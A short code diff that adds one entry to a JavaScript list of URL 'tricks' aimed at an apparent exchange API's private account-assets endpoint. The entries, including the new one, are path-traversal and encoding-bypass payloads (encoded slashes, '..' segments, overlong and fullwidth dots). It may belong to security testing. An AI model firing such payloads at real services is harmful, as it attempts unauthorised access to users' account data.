@@ -90,6 +90,7 @@ const GET_TRICKS = [
   '/mx/api/v1/contract//private/account/assets',
   '/mx/api/v1/contract/%c0%ae%c0%ae/private/account/assets',
   '/mx/api/v1/contract/%ef%bc%8e%ef%bc%8e/private/account/assets',
+  '/mx/api/v1/contract/a&%2f..%2f..%2fprivate/account/assets',
   '/mx/api/v1/contract/%ff',
   '/mx/api/v1/contract/%zz',
   '/mx/api/v1/contract/%',
